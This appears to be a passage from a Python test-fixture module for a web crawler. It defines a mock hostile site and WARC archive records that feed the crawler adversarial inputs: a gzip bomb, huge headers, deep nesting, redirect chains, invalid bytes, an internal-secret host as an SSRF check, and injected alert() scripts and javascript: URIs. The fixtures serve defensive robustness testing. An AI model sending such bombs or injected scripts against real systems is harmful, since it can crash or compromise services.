        "/release/huge-header.html": lambda: _announced(
            release("Huge header").encode(), raw_headers=[("X-Padding", "p" * MB)]),
        "/release/deep-nesting.html": lambda: _ok(nested_html()),
        "/release/scripts-only.html": lambda: _ok(
            "<html><head><script>var a=1;</script></head><body>"
            + "<script>document.body.innerHTML='<p>rendered</p>';</script>" * 200
            + "<noscript></noscript></body></html>"),
        "/release/sitemap-dated.html": lambda: _ok(release("Named by a dated sitemap")),
        "/release/markup-title.html": lambda: _ok(release(MARKUP_TITLE, lead=(
            "The harbour office warned users of its ticket website about messages that ask "
            "them to reset their passwords through a link, and said it never sends such "
            "messages."))),
    }


class HostileSite:
    """Answers requests for :data:`HOSTS` (mounted by the wire network)."""

    def __init__(self) -> None:
        self.routes = _pages()

    @staticmethod
    def serves(host: str) -> bool:
        """True for the hostile hosts."""
        return host in HOSTS

    def respond(self, host: str, path: str, query: str) -> Response:
        """The response to ``GET http://host/path?query``."""
        if host == BIN_HOST:
            if path == "/robots.txt":
                return _ok(PNG + b"\nUser-agent: *\nDisallow: /\x00\xff", "text/plain")
            return _ok(release("Behind a binary robots.txt"))
        if host == INTERNAL_HOST:
            return _ok(b"internal secret: must never be fetched", "text/plain")
        if path in REDIRECTS:
            return _redirect(REDIRECTS[path])
        if path.startswith("/r/chain/"):
            n = int(path.rsplit("/", 1)[1] or 0)
            return _redirect(f"{BASE}/r/chain/{n + 1}") if n < 12 else _ok(release("End"))
        if path == "/listing/" and query:
            return _ok(page("Page two", f'<a rel="next" href="{BASE}/listing/">Next</a>'))
        if path == "/release/view.php":
            return _ok(cms_article(query))
        if path.startswith("/release/flood-"):
            return Response(404, b"gone", "text/plain", compressible=False)
        make = self.routes.get(path)
        if make is None:
            return Response(404, b"<html><body>Not here</body></html>", compressible=False)
        return make()


# -- inputs fed through the inbox as WARC files ---------------------------------------------
INBOX_HOST = "inbox.hostile-archive.test"


def inbox_pages() -> list[tuple[str, str, int | str, list[tuple[str, str]], bytes]]:
    """``(name, url, status, headers, body)`` of the archive records to feed as WARC."""
    html = [("Content-Type", "text/html; charset=utf-8")]
    base = f"http://{INBOX_HOST}/news"
    return [
        ("inbox_gzip_bomb", f"{base}/bomb.html", 200,
         [*html, ("Content-Encoding", "gzip")], gzip_bomb()),
        ("inbox_nul_invalid_utf8", f"{base}/nul.html", 200, html,
         release("Archived NUL").encode().replace(b"night bus", b"night\x00\xc3\x28bus")),
        ("inbox_binary", f"{base}/binary.html", 200, html, ZIP),
        ("inbox_urdu_scripted", f"{base}/urdu.html", 200, html,
         urdu_release().replace("</h1>", "</h1><script>alert('urdu')</script>").encode()),
        ("inbox_javascript_uri", "javascript:alert('warc')//x.html", 200, html,
         release("A record whose target is a javascript: URI").encode()),
        ("inbox_empty", f"{base}/empty.html", 200, html, b""),
        ("inbox_deep_nesting", f"{base}/deep.html", 200, html, nested_html(50_000)),
        ("inbox_absurd_dates", f"{base}/dates.html", 200, html, absurd_dates_release().encode()),
        ("inbox_malformed_uri", "http://[::1/inbox-malformed.html", 200, html,
         release("A record whose target URI does not parse").encode()),
        ("inbox_huge_status", f"{base}/huge-status.html", 99999999999, html,
         release("A record whose status is 99999999999").encode()),
        ("inbox_word_status", f"{base}/word-status.html", "OK", html,
         release("A record whose status is a word").encode()),
    ]
